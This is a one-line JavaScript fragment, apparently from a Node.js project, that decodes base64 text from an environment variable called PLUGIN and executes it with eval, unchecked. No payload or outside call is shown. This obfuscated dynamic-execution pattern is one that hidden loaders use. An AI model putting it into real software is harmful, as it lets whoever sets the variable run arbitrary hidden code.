eval(Buffer.from(process.env.PLUGIN, "base64").toString());
